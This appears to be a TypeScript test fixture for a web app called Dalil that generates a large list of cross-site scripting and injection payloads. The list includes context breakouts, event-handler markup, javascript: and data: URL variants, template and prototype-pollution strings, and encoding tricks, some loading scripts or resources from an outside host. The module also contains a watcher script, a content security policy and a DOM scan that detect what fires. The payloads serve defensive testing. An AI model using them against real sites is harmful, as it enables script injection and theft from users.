/**
 * Texts that would run as code, or ask a stranger's host, if anything took them for more than text. Each calls `fired`, which the page
 * under attack has, or names the stranger's address.
 */

/** What ends the place that a text may stand in. */
const ENDINGS = [
  "", '"', "'", "`", '">', "'>", "-->", "]]>", "*/", "</title>", "</script>", "</style>", "</textarea>", "</template>", "</noscript>",
  "</dalil-search>", '\\"', "\n", "\u2028", "\u0000", "<!--", "</p></div>", "}]}\n", '");', "\u202e",
];

/** Ways to call `fired`. */
const CALLS = ["fired()", "window.fired`x`", "parent.fired(1)", "self[`fired`](1)", "top['fired'](1)", "&#102;ired()"];

/** Markup that runs a call or asks the stranger. */
const markup = (call: string, stranger: string): string[] => [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<script src="${stranger}s.js"></script>`,
  `<script type=module>import "${stranger}m.js"</script>`,
  `<img src=x onerror=${call}>`,
  `<img/src="x"/onerror="${call}"`,
  `<IMG SRC="${stranger}i.gif" ONLOAD="${call}">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="${stranger}u.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${call}">a</math>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe src="${stranger}f.html"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="${stranger}e.swf">`,
  `<details open ontoggle=${call}><summary>a</summary></details>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video src=x onerror=${call}></video>`,
  `<audio><source src="${stranger}a.ogg" onerror=${call}></audio>`,
  `<link rel=stylesheet href="${stranger}l.css">`,
  `<link rel=prefetch href="${stranger}p">`,
  `<style>@import "${stranger}c.css"; * { background: url(${stranger}b.gif) }</style>`,
  `<div style="background: url('${stranger}d.gif'); width: expression(${call})">a</div>`,
  `<base href="${stranger}">`,
  `<meta http-equiv=refresh content="0;url=${stranger}r.html">`,
  `<form action="javascript:${call}"><button autofocus onfocus=${call}>a</button></form>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<a id=Dalil name=body href="javascript:${call}">a</a>`,
  `<mark onmouseover=${call} style="position:fixed;inset:0">a</mark>`,
  `" onfocus=${call} autofocus tabindex=0 x="`,
  `' style='animation: x 1s' onanimationstart='${call}`,
  `\` onpointerenter=${call} \``,
  `\u003cimg src=x onerror=${call}\u003e`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
];

/** Addresses that run a call, whatever a reader of addresses takes out of them first. */
const addresses = (call: string, stranger: string): string[] => [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` \t\u0001javascript:${call}`,
  `java\nscript:${call}`,
  `java\tscript:${call}`,
  `java\u0000script:${call}`,
  `\u0000javascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `javascript\u003a${call}`,
  `%6aavascript:${call}`,
  `javascript://%0a${call}`,
  `javascript:/*--></title></style></script>*/${call}//`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZmlyZWQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `blob:${stranger}1`,
  `view-source:javascript:${call}`,
  `feed:javascript:${call}`,
  `filesystem:${stranger}a`,
  `http://a" onclick="${call}`,
  `https:javascript:${call}`,
  `//${new URL(stranger).host}/q?"><img src=x onerror=${call}>`,
  `${stranger}picture.gif`,
  `${stranger}"><script>${call}</script>`,
  `\\\\${new URL(stranger).host}\\share`,
  `https://user:${call}@archive.invalid/`,
  `?q="><img src=x onerror=${call}>`,
  `#"><img src=x onerror=${call}>`,
];

/** What a template, a pattern, a formula or a file of ours would take for its own. */
const languages = (call: string, stranger: string): string[] => [
  `\${${call}}`,
  `{{${call}}}`,
  `{{title:${call}}}{{notices}}{{load}}`,
  `[[${call}]]`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `{{constructor.constructor('${call}')()}}`,
  `<!--?lit$${call}$--><!--/lit-part--><?lit$1$>`,
  `<!--lit-part x--><!--lit-node 0-->`,
  `lit$0000$ $lit$ @click=${call} .innerHTML=<img/src=x/onerror=${call}>`,
  `Dalil.deliver("dalil 1 x manifest 0 0","",${call})`,
  `");${call};("`,
  `\\");${call};//`,
  `\\u0022);${call}//`,
  `'-${call}-'`,
  `\u2028${call}\u2029`,
  `*/${call}/*`,
  `]]><script>${call}</script><![CDATA[`,
  `<!ENTITY x SYSTEM "${stranger}x"> &x;`,
  `<?xml-stylesheet href="${stranger}x.xsl"?>`,
  `=HYPERLINK("${stranger}","a")`,
  `@import url(${stranger}i.css);`,
  `}*{background:url(${stranger}k.gif)}`,
  `<mark>${call}</mark></mark><script>${call}</script>`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"fired":true},"toString":1}`,
  `\u202e\u2066<\u2069script>${call}</script>\u202c`,
  `\ud800<img src=x onerror=${call}>\udfff`,
  `../../../../${call}`,
  `"`.repeat(300) + `><script>${call}</script>`,
  `<img src=x onerror=${call}>`.repeat(800),
];

/** All of them, each once. */
export function injections(stranger: string): string[] {
  const ended = CALLS.flatMap((call, c) =>
    markup(call, stranger).map((text, t) => ENDINGS[(t * CALLS.length + c) % ENDINGS.length] + text),
  );
  return [...new Set([...ended, ...others(stranger)])];
}

/** So many of the last of them are of every kind: one call's markup, and what else there is. */
export function lastOfEveryKind(stranger: string): number {
  return markup("", stranger).length + others(stranger).length;
}

/** What isn't markup that runs a call. */
function others(stranger: string): string[] {
  return CALLS.slice(0, 2).flatMap((call) => [...addresses(call, stranger), ...languages(call, stranger)]);
}

/** Put first on a page under attack: notes what fires, and what the page's policy reports. `nonce` lets itself through. */
export const WATCH = `<script nonce="watch">
  window.fires = [];
  window.violations = [];
  window.fired = (...given) => (fires.push(given.join() + new Error().stack), true);
  window.alert = window.fired;
  // The icon of a page that names none is the browser's own wish.
  document.addEventListener("securitypolicyviolation", (event) => event.blockedURI.endsWith("/favicon.ico") || violations.push([event.effectiveDirective, event.blockedURI, event.sample].join(" ")));
</script>`;

/** What a page of ours may do at most; the rest is reported, and done, so that it fires. */
export const POLICY =
  "default-src 'none'; script-src 'self' 'nonce-watch' 'wasm-unsafe-eval'; worker-src blob:; connect-src 'self'; img-src 'self' data:; " +
  "style-src 'self' 'unsafe-inline'; base-uri 'self'; form-action 'self'; require-trusted-types-for 'script'; trusted-types dalil lit-html 'allow-duplicates'";

/** A page with the watch on it, before all else of it. */
export function watched(page: Buffer): Buffer {
  return Buffer.from(page.toString("utf8").replace(/<head>|<meta charset="?utf-8"?>/i, (found) => found + WATCH));
}

/** Looks at all that is drawn: what could run, and whose address it names, in the page and below its element. Then waits until whatever was to come has come. */
export const LOOK_ROUND = `
  const done = arguments[arguments.length - 1];
  const roots = [document, ...[...document.querySelectorAll("*")].map(({ shadowRoot }) => shadowRoot).filter(Boolean)];
  const all = roots.flatMap((root) => [...root.querySelectorAll("*")]);
  const drawn = roots.slice(1).flatMap((root) => [...root.querySelectorAll("*")]);
  const runs = all.filter((element) => [...element.attributes].some(({ name }) => /^on/i.test(name))).map(({ outerHTML }) => outerHTML.slice(0, 200));
  const foreign = drawn.filter((element) => element.matches("script, iframe, object, embed, style, link, meta, base, form[action], template, math, animate")).map(({ outerHTML }) => outerHTML.slice(0, 200));
  const addresses = all.flatMap((element) => ["href", "src", "action", "formaction", "data", "srcdoc", "poster"].map((name) => element.getAttribute(name) === null ? null : [name, element.getAttribute(name)]))
    .filter((found) => found && /^[\\s\\u0000-\\u001f]*(?:javascript|vbscript|data:text)/i.test(found[1])).map(String);
  const tell = () => done(JSON.stringify({ runs, foreign, addresses, fires, violations, place: location.origin + location.pathname, elements: all.length }));
  requestAnimationFrame(() => setTimeout(() => requestAnimationFrame(() => setTimeout(tell))));`;
